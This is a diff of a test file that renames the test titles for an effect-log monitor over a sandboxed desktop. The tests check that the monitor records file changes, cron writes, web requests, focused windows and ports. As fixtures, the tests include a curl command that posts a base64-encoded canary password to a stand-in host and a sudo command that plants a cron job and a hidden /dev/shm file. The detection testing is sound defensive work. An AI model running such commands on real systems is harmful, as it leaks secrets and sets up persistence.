@@ -8,7 +8,7 @@ import { beginEffectLog, type RunningEffectLog } from '../../src/evidence/effect
 import { anyFacts } from './make-effect.ts';
 
 /** The effect log on a real desktop: what programs really do to files, mail and the network. */
-describe('an effect log over a sandboxed desktop', () => {
+describe('the effect log of a sandboxed desktop', () => {
   const provider = new SandboxProvider();
   const canaries = makeCanaries('real');
   const effects: Effect[] = [];
@@ -58,12 +58,12 @@ describe('an effect log over a sandboxed desktop', () => {
     );
   };
 
-  it('sees nothing where nothing is done', async () => {
+  it('the effect log of an idle desktop is empty', async () => {
     expect(await after('true')).toEqual([]);
     expect(await after('cat ~/Work/plan.txt; ls -la ~; touch ~/Work/plan.txt')).toEqual([]);
   });
 
-  it('sees files made, changed, opened to others, removed and put back', async () => {
+  it('the effect log records files created, changed, opened to others, deleted and restored', async () => {
     expect(await after('echo one > ~/Work/new.txt')).toEqual(['file created /home/user/Work/new.txt']);
     expect(await after('echo more >> ~/Work/plan.txt')).toEqual(['file modified /home/user/Work/plan.txt']);
     expect(await after('chmod 777 ~/Work/run.sh')).toEqual(['file metadata /home/user/Work/run.sh']);
@@ -71,7 +71,7 @@ describe('an effect log over a sandboxed desktop', () => {
     expect(await after('rm ~/Work/new.txt')).toEqual(['file deleted /home/user/Work/new.txt']);
   });
 
-  it('sees moves, the trash, and a folder that goes as a whole', async () => {
+  it('the effect log records moves, the trash, and a folder deleted whole', async () => {
     expect(await after('mv ~/Work/run.sh ~/Work/start.sh')).toEqual([
       'file moved /home/user/Work/run.sh → /home/user/Work/start.sh',
     ]);
@@ -85,7 +85,7 @@ describe('an effect log over a sandboxed desktop', () => {
     ]);
   });
 
-  it('sees what root does inside, in /etc and /tmp', async () => {
+  it('the effect log records what root does in /etc and /tmp', async () => {
     expect(
       await after(
         'echo password | sudo -S sh -c "echo x > /etc/cron.d/job; echo y > /tmp/out.txt; echo z > /dev/shm/hidden"',
@@ -93,7 +93,7 @@ describe('an effect log over a sandboxed desktop', () => {
     ).toEqual(['cron created /etc/cron.d/job', 'file created /tmp/out.txt']);
   });
 
-  it('sees requests and what they carry, whatever the encoding', async () => {
+  it('the effect log records requests and their contents in any encoding', async () => {
     const secret = Buffer.from(canaries.password ?? '').toString('base64');
     const found = await after(`curl -s --max-time 10 -d 'q=${secret}' https://forms.kestrel.example/submit`);
     expect(found).toEqual(['web requested forms.kestrel.example']);
@@ -104,14 +104,14 @@ describe('an effect log over a sandboxed desktop', () => {
     );
   });
 
-  it('knows which window has the focus', async () => {
+  it('the effect log records which window has the focus', async () => {
     await desktop.launch(['gnome-terminal']);
     await desktop.settle({ newWindowSince: [], newWindowCapMs: 10_000, capMs: 10_000 });
     await after('true');
     expect(actions.filter((action) => action.kind === 'window').at(-1)?.detail.className ?? '').toMatch(/terminal/i);
   });
 
-  it('sees at the end which ports were opened and which programs of the session run no more', async () => {
+  it('the effect log lists opened ports and exited session programs at the end', async () => {
     await after('python3 -m http.server 8123 --bind 127.0.0.1 > /dev/null 2>&1 & pkill -x tint2; sleep 2');
     const found = await effectLog.stepsOver().collect(0);
     const changes = found.filter(({ kind }) => kind === 'port-opened' || kind === 'session-ended');
@@ -123,7 +123,7 @@ describe('an effect log over a sandboxed desktop', () => {
     ]);
   });
 
-  it('still sees the files of a desktop that its agent ended', async () => {
+  it('the effect log still records the files of a desktop that its agent ended', async () => {
     step++;
     effectLog.stepStarted(step);
     await desktop
